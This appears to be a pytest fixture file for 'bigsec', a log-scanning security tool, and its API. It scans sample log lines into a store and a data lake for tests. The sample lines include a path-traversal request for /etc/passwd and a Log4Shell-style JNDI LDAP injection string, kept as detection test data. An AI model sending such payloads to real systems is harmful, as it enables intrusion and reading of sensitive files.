"""A store that a scan wrote, and clients of an application over it."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

import bigsec
from bigsec.detect import record
from bigsec.lake import LakeWriter
from bigsec.store import OutputFolder
from bigsec_api.app import create_app
from bigsec_api.settings import Settings

LINES = [
    "Jan  2 03:04:05 web1 sshd[77]: Failed password for root from 203.0.113.9 port 4022 ssh2",
    "Jan  2 03:04:06 web1 sudo:   mallory : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
    "Jan  2 03:05:06 db2 sudo:   eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
    "203.0.113.9 - - [02/Jan/2026:03:04:09 +0000] "
    '"GET /a?f=../../../../etc/passwd HTTP/1.1" 200 9 "-" "curl/8"',
    "198.51.100.7 - - [02/Jan/2026:03:09:09 +0000] "
    '"GET /?q=${jndi:ldap://198.51.100.8/a} HTTP/1.1" 200 9 "-" "curl/8"',
]


def scan_into(folder: Path, lines: Iterable[str]) -> None:
    """Scan lines with bigsec's own rules into the store of a folder."""
    with OutputFolder(folder) as output:
        for chunk in bigsec.scan(lines, bigsec.Rules.load(), name="test"):
            record(output.store, chunk.signals.to_pylist(), chunk.events.to_pylist())
        output.commit()


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a store without tokens; do not write to it."""
    folder = tmp_path_factory.mktemp("store")
    scan_into(folder, LINES)
    return folder


@pytest.fixture(scope="session")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a lake with the same lines; do not write to it."""
    folder = tmp_path_factory.mktemp("lake")
    writer = LakeWriter(folder, "test")
    for batch in bigsec.read(LINES, keep_raw=True):
        writer.take(batch, writer.position + 1 + len(batch))
    writer.seal()
    return folder


@pytest.fixture
def own_store(store: Path, tmp_path: Path) -> Path:
    """A copy of the store that a test may change."""
    return Path(shutil.copytree(store, tmp_path / "own"))


@pytest.fixture(scope="session")
def lines() -> list[str]:
    """What was scanned into `store`."""
    return LINES


@pytest.fixture(scope="session")
def fill() -> Callable[[Path, Iterable[str]], None]:
    """Scans lines into the store of a folder."""
    return scan_into


@pytest.fixture(scope="session")
def connect() -> Callable[[Settings], TestClient]:
    """Makes a client of an application of one's own."""
    return local_client


def local_client(settings: Settings) -> TestClient:
    """A client on this machine that sees a defect as the answer a stranger gets."""
    return TestClient(
        create_app(settings),
        base_url="http://127.0.0.1:8000",
        client=("127.0.0.1", 50_000),
        raise_server_exceptions=False,
    )


@pytest.fixture(scope="session")
def client(store: Path, lake: Path) -> Iterator[TestClient]:
    """A client of the store without tokens, and of the lake."""
    with local_client(Settings(store=store, lake=lake, pseudo=True)) as client:
        yield client
